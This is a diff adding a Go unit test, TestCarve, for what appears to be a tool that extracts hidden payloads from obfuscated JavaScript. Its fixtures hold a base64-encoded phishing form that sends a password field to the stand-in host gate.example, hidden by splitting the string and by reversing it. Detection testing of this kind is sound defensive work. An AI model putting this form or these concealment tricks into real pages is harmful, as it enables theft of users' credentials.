@@ -115,3 +115,13 @@ func TestShape(t *testing.T) {
 		t.Errorf("%s %s %s", a, b, c)
 	}
 }
+
+func TestCarve(t *testing.T) {
+	const b64 = "PGh0bWw+PGZvcm0gYWN0aW9uPSJodHRwczovL2dhdGUuZXhhbXBsZS9wLnBocCI+PGlucHV0IHR5cGU9cGFzc3dvcmQ+PC9mb3JtPjwvaHRtbD4="
+	for _, src := range []string{"var a='" + b64[:40] + "';var a='" + b64[40:] + "';document.write(atob(a+a", "var x='" + reversed(b64) + "' +"} {
+		w := Carve([]Source{{Text: src}})
+		if len(w) != 1 || !strings.Contains(w[0].Text, "https://gate.example/p.php") {
+			t.Errorf("%.40q: %+v", src, w)
+		}
+	}
+}
